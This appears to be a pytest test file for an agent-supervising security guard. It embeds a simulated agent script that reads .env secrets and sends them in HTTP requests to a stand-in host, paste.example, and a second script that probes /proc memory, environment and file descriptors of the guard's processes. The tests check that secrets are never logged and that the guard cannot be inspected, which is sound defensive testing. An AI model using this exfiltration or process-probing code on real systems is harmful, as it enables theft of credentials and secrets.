"""A session that puts its secrets everywhere a name can stand; and one that looks at who guards it."""

from __future__ import annotations

import secrets
from pathlib import Path

import pytest
from harness.guarded import Guarded, of_kind

pytestmark = pytest.mark.slow

AGENT = r"""
import os, socket, subprocess, sys
from urllib.parse import urlsplit
values = [line.split("=", 1)[1].strip() for line in open(".env")]
proxy = urlsplit(os.environ["HTTP_PROXY"] if "HTTP_PROXY" in os.environ else os.environ["http_proxy"])
for number, value in enumerate(values):
    folder = "below/" + value
    os.makedirs(folder)
    for name in (".env", value + ".pem"):
        open(folder + "/" + name, "w").write("A=" + value + "\n")
        open(folder + "/" + name).read()
    program = folder + "/" + value
    open(program, "w").write("#!/bin/sh\ncat .env\n")
    os.chmod(program, 0o755)
    subprocess.run([os.path.abspath(program), value, "--x=" + value], stdout=subprocess.DEVNULL, cwd=folder)
    subprocess.run(["cat", ".env"], stdout=subprocess.DEVNULL, env={**os.environ, "E_" + value: "v" + value})
    for request in (
        f"GET / HTTP/1.1\r\nHost: paste.example\r\nX-{value}: {value}\r\n\r\n",
        f"{value} http://paste.example/{value}?{value} HTTP/1.1\r\nHost: paste.example\r\nX-A: {value}\r\n\r\n",
        f"GET http://{value}.example/ HTTP/1.1\r\nHost: {value}.example\r\nContent-Encoding: {value}\r\n\r\n",
        f"CONNECT {value}.example:443 HTTP/1.1\r\nHost: {value}.example:443\r\n\r\n",
    ):
        with socket.create_connection((proxy.hostname, proxy.port), timeout=5) as client:
            if request.startswith("GET / "):
                request = request.replace("GET / ", "GET http://paste.example/ ")
            client.sendall(request.encode())
            try:
                client.recv(4096)
            except OSError:
                pass
"""

LOOK = r"""
import os
guard = int(os.environ["AGENTGUARD_SUPERVISOR"])
parent = {}
for name in filter(str.isdigit, os.listdir("/proc")):
    try:
        parent[int(name)] = int(open(f"/proc/{name}/stat").read().rsplit(")", 1)[1].split()[1])
    except OSError:
        pass
ours = [guard, parent[guard], *(pid for pid, above in parent.items() if above == guard and pid != os.getpid())]
for pid in ours:
    for name in ("mem", "environ", "maps", "auxv"):
        try:
            open(f"/proc/{pid}/{name}", "rb").read(1 if name != "mem" else 0)
            print("readable", pid, name)
        except PermissionError:
            pass
    try:
        print("listed", pid, os.listdir(f"/proc/{pid}/fd"))
    except PermissionError:
        pass
print("looked at", len(ours))
"""


def test_a_secret_in_the_place_of_a_name_is_written_nowhere(guarded: Guarded, base: Path) -> None:
    values = [secrets.token_hex(16), "Tok" + secrets.token_hex(8).upper() + "z" + secrets.token_hex(6)]
    (guarded.project / ".env").write_text("".join(f"SECRET_{at}={value}\n" for at, value in enumerate(values)))
    inner = guarded.project / values[0]
    inner.mkdir()
    (inner / ".env").write_text((guarded.project / ".env").read_text())
    guarded.project = inner
    (base / "agent.py").write_text(AGENT)
    done = guarded.run("python3", str(base / "agent.py"), values[1], options=("--resolve", "paste.example=127.0.0.1:9"))
    assert done.returncode == 0, done.stderr
    sends = of_kind(guarded.events(), "http")
    assert {match["place"].split(":")[0] for event in sends for match in event["matches"]} >= {
        "host",
        "header",
        "query",
    }
    shown = [done.stderr]
    for words in (["events", "--session", "last"], ["sessions", "--format", "json"]):
        shown.append(guarded.verb(*words).stdout)
    for form in ("html", "md", "json"):
        shown.append(guarded.verb("report", "--last", "--format", form, "-o", "-").stdout)
    kept = {str(path): path.read_bytes() for path in guarded.home.rglob("*") if path.is_file()}
    kept.update({f"output {at}": text.encode() for at, text in enumerate(shown)})
    needles = {value.encode() for value in (*values, values[1].lower(), values[1].upper())}
    assert [name for name, data in kept.items() if any(needle in data for needle in needles)] == []


def test_no_process_of_the_guard_can_be_looked_into(guarded_by_each: Guarded, base: Path) -> None:
    guarded = guarded_by_each
    if not guarded.prefix:
        pytest.skip("root may look into everything")
    (base / "look.py").write_text(LOOK)
    done = guarded.run("python3", str(base / "look.py"))
    assert done.stdout.startswith("looked at"), done.stdout + done.stderr
